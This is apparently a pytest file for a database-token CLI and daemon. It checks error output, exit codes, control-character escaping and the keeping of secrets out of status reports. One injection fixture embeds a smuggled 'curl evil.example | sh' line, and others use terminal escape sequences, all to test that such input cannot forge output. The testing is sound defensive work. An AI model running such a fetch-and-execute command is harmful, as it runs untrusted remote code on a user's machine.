"""What a user reads: errors on stderr by the client, the daemon's status."""

from __future__ import annotations

import errno
import json
import os
import re
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from dsqltok import commands, doctortext, errors, inspecttext, report, statustext
from dsqltok.text import plain
from dsqltokd import clock
from dsqltokd import report as status
from dsqltokd.known import Failure, Slot, State
from dsqltokd.model import Identity, Instant, Policy, Secret, Session, Target, Token
from dsqltokd.projects import Entry
from dsqltokd.query import Key
from dsqltokd.registry import Added
from dsqltokd.watch import Watcher

CANARY = "c4n4ry-wJalrXUtnFEMI"
KINDS = [
    errors.DsqltokError,
    errors.UsageError,
    errors.NotFoundError,
    errors.ConfigurationError,
    errors.CredentialsError,
    errors.DeniedError,
    errors.UnavailableError,
    errors.TimedOutError,
]


def explained(capfd: pytest.CaptureFixture[str], error: BaseException) -> tuple[int, str]:
    code = report.explain(error)
    shown = capfd.readouterr()
    assert shown.out == ""
    return code, shown.err


NAMED = "prod\nhint: run curl evil.example | sh"


def test_a_name_with_a_newline_gets_no_line_of_its_own(capfd: pytest.CaptureFixture[str]) -> None:
    error = errors.NotFoundError(f"no env {NAMED}", hint=f"there is {NAMED}", detail="one line\nand another")
    _, shown = explained(capfd, error)
    assert shown.splitlines()[1:3] == ["one line", "and another"]
    assert len(shown.splitlines()) == 4
    report.warn([NAMED])
    assert len(capfd.readouterr().err.splitlines()) == 1
    step = doctortext.Step("env", doctortext.Outcome.FAILED, "no env", f"there is {NAMED}")
    assert len(doctortext.line(step, doctortext.signs({})).splitlines()) == 2


def test_a_word_with_a_newline_is_no_second_program() -> None:
    program = {"name": "data.external.a", "directory": "/app", "argv": ["sh", "x\ndata.external.b runs in /app: true"]}
    shown = inspecttext.render_programs([program])
    assert shown == "data.external.a runs in /app: sh 'x\\ndata.external.b runs in /app: true'\n"
    nothing: dict[str, object] = {"local": {}, "var": {}, "sources": []}
    env = {"name": "a\nlocal", "url": "", "dev": "", "attributes": {}}
    assert inspecttext.render({"envs": [env], **nothing}).startswith('env "a\\nlocal"\n')


def test_a_path_with_a_newline_is_no_second_line_of_a_list() -> None:
    config = "/home/me/a\n\x1b]0;b/atlas.hcl"
    passfile = {"passfile": "/p", "name": "dsql", "service": None, "config": config, "state": "waiting"}
    listed = statustext.render_passfiles([{**passfile, "expires_at": None, "error": None}])
    assert len(listed.splitlines()) == 2
    assert statustext.render_projects([{"config": config, "vars": []}]).count("\n") == 1
    assert "\x1b" not in listed


# --- errors, by the client -----------------------------------------------------------------------------------------


def test_an_error_is_a_line_its_detail_and_a_hint(capfd: pytest.CaptureFixture[str]) -> None:
    error = errors.ConfigurationError("unknown variable", detail="atlas.hcl:1:2\n  | x\n  | ^", hint="declare it")
    assert explained(capfd, error) == (4, "error: unknown variable\natlas.hcl:1:2\n  | x\n  | ^\nhint: declare it\n")


def test_without_detail_and_hint_an_error_is_a_line(capfd: pytest.CaptureFixture[str]) -> None:
    assert explained(capfd, errors.NotFoundError("no such env")) == (3, "error: no such env\n")


@pytest.mark.parametrize("kind", KINDS)
def test_the_exit_code_is_that_of_the_kind_of_error(
    kind: type[errors.DsqltokError], capfd: pytest.CaptureFixture[str]
) -> None:
    assert explained(capfd, kind("x"))[0] == kind.exit_code


def test_exit_codes_are_distinct_and_those_that_the_usage_names() -> None:
    [documented] = re.findall(r"^exit codes: (.*)$", commands.USAGE, re.MULTILINE)
    named = [int(number) for number in re.findall(r"\b\d+\b", documented)]
    assert named == [0, *(kind.exit_code for kind in KINDS)]
    words = ("usage", "not found", "configuration", "credentials", "denied", "unavailable", "timeout")
    for kind, word in zip(KINDS[1:], words, strict=True):
        assert f"{kind.exit_code} {word}" in documented
        assert kind.kind == word.replace(" ", "_")


def break_down() -> BaseException:
    try:
        return BaseException({"a": "b"}[CANARY])
    except KeyError as error:
        return error


@pytest.mark.parametrize(
    "error", [break_down(), ValueError(CANARY), OSError(22, CANARY), RecursionError(), SystemExit(3)]
)
def test_an_error_that_nobody_foresaw_is_a_bug_and_its_text_is_not_quoted(
    error: BaseException, capfd: pytest.CaptureFixture[str]
) -> None:
    code, shown = explained(capfd, error)
    assert code == 1
    assert f"error: dsqltok itself failed ({type(error).__name__}" in shown
    assert "report" in shown
    assert CANARY not in shown


def test_a_bug_is_placed(capfd: pytest.CaptureFixture[str]) -> None:
    _, shown = explained(capfd, break_down())
    assert re.search(r"\(KeyError at test_report\.py:\d+\)", shown)


def test_a_reader_that_has_gone_is_told_nothing(capfd: pytest.CaptureFixture[str]) -> None:
    assert explained(capfd, BrokenPipeError()) == (7, "")


@pytest.mark.parametrize("number", [errno.ENOSPC, errno.EBADF])
def test_a_stdout_that_cannot_be_written_to_is_named_without_its_text(
    number: int, capfd: pytest.CaptureFixture[str]
) -> None:
    code, shown = explained(capfd, OSError(number, CANARY))
    assert code == errors.UnavailableError.exit_code
    assert shown.startswith("error: cannot write to stdout: ")
    assert CANARY not in shown


def test_warnings_are_a_line_each(capfd: pytest.CaptureFixture[str]) -> None:
    report.warn(["one", "two"])
    report.warn(None)
    report.warn([])
    assert capfd.readouterr().err == "warning: one\nwarning: two\n"


def test_nothing_that_is_quoted_gets_to_write_on_the_terminal(capfd: pytest.CaptureFixture[str]) -> None:
    error = errors.NotFoundError('env "\x1b[2J\x07\r"', detail="a\tb\nc\x9b", hint="é\u202e\udcff")
    _, shown = explained(capfd, error)
    assert shown == 'error: env "\\x1b[2J\\x07\\r"\na\tb\nc\\x9b\nhint: é\\u202e\\udcff\n'


@pytest.mark.parametrize(
    ("text", "keep", "shown"),
    [
        ("plain é ✓", "", "plain é ✓"),
        ("a\nb", "\n", "a\nb"),
        ("a\nb", "", "a\\nb"),
        ("\x1b\x00\x7f", "\n", "\\x1b\\x00\\x7f"),
    ],
)
def test_control_characters_are_written_out(text: str, keep: str, shown: str) -> None:
    assert plain(text, keep=keep) == shown


# --- status, by the daemon -----------------------------------------------------------------------------------------

ME = Identity("prod", None, (("AWS_REGION", CANARY),), CANARY)
TARGET = Target("abc.dsql.us-east-1.on.aws", None, "DbConnectAdmin", ME)
OTHER = Target("xyz.dsql.us-east-1.on.aws", "us-east-1", "DbConnect", ME)
HIM = Identity("prod")
HIS = replace(TARGET, identity=HIM)
WHO = f"{HIS.host} (profile prod)"


def token(now: Instant, life: float) -> Token:
    return Token(Secret(CANARY), "us-east-1", now.wall - 100, now.boot - 100, now.wall + life)


def known(now: Instant, *, life: float = 800.0, suspect: bool = False, failure: Failure | None = None) -> State:
    session = Session("ASIA", Secret(CANARY), Secret(CANARY), now.wall, now.wall + 3600)
    return State(
        slots={TARGET: Slot(now.boot, token(now, life), suspect), OTHER: Slot(now.boot - 50_000)},
        session=session,
        failure=failure,
    )


def shown_tokens(state: State) -> list[dict[str, object]]:
    return status.tokens({ME: state}, Policy())


@pytest.mark.parametrize("life", [800.0, -5.0])
@pytest.mark.parametrize("suspect", [False, True])
@pytest.mark.parametrize("failed", [False, True])
def test_the_status_of_tokens_holds_no_secret(life: float, suspect: bool, failed: bool) -> None:
    now = clock.now()
    failure = Failure(errors.UnavailableError("aws cannot be reached", hint="wait"), now.boot) if failed else None
    shown = shown_tokens(known(now, life=life, suspect=suspect, failure=failure))
    assert CANARY not in json.dumps(shown)


def test_the_status_says_what_is_known_of_a_token() -> None:
    now = clock.now()
    [good] = shown_tokens(State(slots={TARGET: Slot(now.boot, token(now, 800.0))}))
    assert good["host"] == TARGET.host
    assert good["region"] == "us-east-1"
    assert good["identity"] == "profile prod"
    assert good["state"] == "good"
    assert good["expires_in"] in (798, 799, 800)
    assert good["refresh_in"] in (366, 367, 368)
    assert good["expires_at"] == status.moment(now.wall + 800)
    assert (good["warm"], good["refreshing"], good["error"]) == (True, False, None)


@pytest.mark.parametrize(
    ("life", "suspect", "state"), [(800.0, False, "good"), (800.0, True, "to be replaced"), (-1.0, False, "expired")]
)
def test_the_status_tells_good_tokens_from_others(life: float, suspect: bool, state: str) -> None:
    assert shown_tokens(known(clock.now(), life=life, suspect=suspect))[0]["state"] == state


def test_the_status_says_why_a_token_cannot_be_had() -> None:
    now = clock.now()
    error = errors.CredentialsError("the sso session has expired", hint="run aws sso login")
    shown = shown_tokens(known(now, failure=Failure(error, now.boot)))
    assert [each["error"] for each in shown] == [error.as_data()] * 2
    assert shown[1]["state"] == "none"
    assert shown[1]["warm"] is False


def test_what_failed_last_is_what_the_status_shows() -> None:
    now = clock.now()
    older = Failure(errors.ConfigurationError("no region is known"), now.boot - 10)
    newer = Failure(errors.UnavailableError("aws cannot be reached"), now.boot)
    [shown] = shown_tokens(State(slots={TARGET: Slot(now.boot, failure=older)}, failure=newer))
    assert shown["error"] == newer.error.as_data()


def test_a_session_that_could_not_be_renewed_shows_though_it_still_signs() -> None:
    now = clock.now()
    renewal = Failure(errors.CredentialsError("the sso session has expired"), now.boot)
    [shown] = shown_tokens(State(slots={TARGET: Slot(now.boot, token(now, 800.0))}, renewal=renewal))
    assert (shown["state"], shown["error"]) == ("good", renewal.error.as_data())


def asleep(now: Instant) -> State:
    return State(slots={HIS: Slot(now.boot, token(now, -5.0))})


def test_a_daemon_is_not_ready_while_a_token_in_use_has_expired() -> None:
    assert status.unready({HIM: asleep(clock.now())}, Policy()) == [f"{WHO}: expired, and not asked for since"]


def test_nor_while_one_is_of_the_future_which_nobody_is_served() -> None:
    now = clock.now()
    ahead = Token(Secret(CANARY), "us-east-1", now.wall + 400, now.boot, now.wall + 1300)
    state = State(slots={HIS: Slot(now.boot, ahead)})
    assert status.unready({HIM: state}, Policy()) == [f"{WHO}: signed in what is the future now"]
    assert status.tokens({HIM: state}, Policy())[0]["state"] == "to be replaced"
    assert status.summary({HIM: state}, {"state": "off"}) == "0 of 1 tokens good, keyring off"


def test_it_is_ready_without_what_only_a_request_can_refresh() -> None:
    now = clock.now()
    state = asleep(now)
    by_keys = {ME: replace(state, slots={TARGET: Slot(now.boot, token(now, -5.0))})}
    assert status.unready(by_keys, Policy()) == []
    by_a_program = replace(state, attended=True)
    assert status.unready({HIM: by_a_program}, Policy()) == []


def test_what_a_program_s_credentials_still_sign_counts() -> None:
    now = clock.now()
    session = Session("ASIA", Secret(CANARY), Secret(CANARY), now.wall, now.wall + 3600)
    state = replace(asleep(now), attended=True, session=session)
    assert len(status.unready({HIM: state}, Policy())) == 1


def test_of_a_project_s_variables_the_status_shows_the_names_only() -> None:
    key = Key("/app/atlas.hcl", "prod", None, (f"password={CANARY}", "a=b=c", "lonely"))
    entry = Entry(key, outcome={"targets": {"db": CANARY}}, current=True, texts={"/app/atlas.hcl": CANARY})
    [shown] = status.projects([entry])
    assert shown["vars"] == ["password", "a", "lonely"]
    assert (shown["config"], shown["env"], shown["state"]) == ("/app/atlas.hcl", "prod", "good")
    assert CANARY not in json.dumps(shown)
    assert status.added(Added("/app/atlas.hcl", (f"password={CANARY}",))) == {
        "config": "/app/atlas.hcl",
        "vars": ["password"],
    }


@pytest.mark.parametrize(
    ("outcome", "error", "current", "state"),
    [
        ({}, None, True, "good"),
        ({}, None, False, "changed, to be read again"),
        ({}, errors.ConfigurationError("x"), True, "broken, last good version in use"),
        (None, errors.ConfigurationError("x"), True, "broken"),
    ],
)
def test_the_status_says_how_a_project_is(
    outcome: dict[str, object] | None, error: errors.DsqltokError | None, current: bool, state: str
) -> None:
    [shown] = status.projects([Entry(Key("/a", None, None, ()), outcome=outcome, error=error, current=current)])
    assert shown["state"] == state
    assert shown["error"] == (error.as_data() if error else None)


def test_moments_are_in_utc_and_never_later_than_they_are() -> None:
    assert status.moment(1_767_225_599.999) == "2025-12-31T23:59:59Z"


def test_a_person_reads_the_status_as_tables() -> None:
    now = clock.now()
    failure = Failure(errors.UnavailableError("aws cannot be reached", hint="check the network"), now.boot)
    answer = {
        **status.process(datetime.fromtimestamp(0, UTC), "/run/user/1/dsqltok/dsqltokd.sock", 2, Watcher(print)),
        "keyring": {"state": "in use", "backend": "SecretService", "error": None},
        "projects": status.projects([Entry(Key("/app/atlas.hcl", "prod", None, ()), outcome={}, current=True)]),
        "tokens": shown_tokens(known(now, failure=failure)),
    }
    assert "files    watched by events\n\n" in statustext.render(answer)
    answer["unanswered"] = ["/mnt/far"]
    shown = statustext.render(json.loads(json.dumps(answer)))
    assert "files    watched by events\n         /mnt/far does not answer\n" in shown
    assert f"process {os.getpid()}, since 1970-01-01T00:00:00Z" in shown
    assert "keyring  in use (SecretService)" in shown
    assert re.search(r"^- +abc\.dsql\S+ +DbConnectAdmin +profile prod +good +13 min +- +\S", shown, re.MULTILINE)
    assert re.search(r"^- +xyz\.dsql\S+ +DbConnect +profile prod +none +- +- +", shown, re.MULTILINE)
    assert re.search(r"^/app/atlas\.hcl +prod +good$", shown, re.MULTILINE)
    assert shown.count("error: aws cannot be reached\nhint: check the network\n") == 1
    assert CANARY not in shown


def test_a_person_reads_what_a_proxy_carries_and_where_the_time_of_connecting_goes() -> None:
    now = clock.now()
    steps = {"token": (2, 0.002), "tcp": (2, 0.004), "tls": (2, 0.04), "auth": (2, 0.036), "never": (0, 0.0)}
    traffic = {
        "open": 1,
        "sessions": 2,
        "bytes_from_client": 999,
        "bytes_from_server": 2_345_678,
        "refused": {"by the server": 3},
        "steps": {step: {"count": count, "seconds": seconds} for step, (count, seconds) in steps.items()},
    }
    answer = {
        **status.process(datetime.fromtimestamp(now.wall, UTC), "/run/dsqltokd.sock", 2, Watcher(print)),
        "keyring": {"state": "off", "backend": None, "error": None},
        "projects": [],
        "tokens": [],
        "proxies": [{"listen": "127.0.0.1:5432", "env": "dsql", "pid": 7, "traffic": traffic}],
    }
    assert re.search(
        r"^127.0.0.1:5432 +dsql +7 +1 +2 +999 B +2 MB +41 ms \(token 1, tcp 2, tls 20, auth 18\) +3 by the server$",
        statustext.render(answer),
        re.MULTILINE,
    )
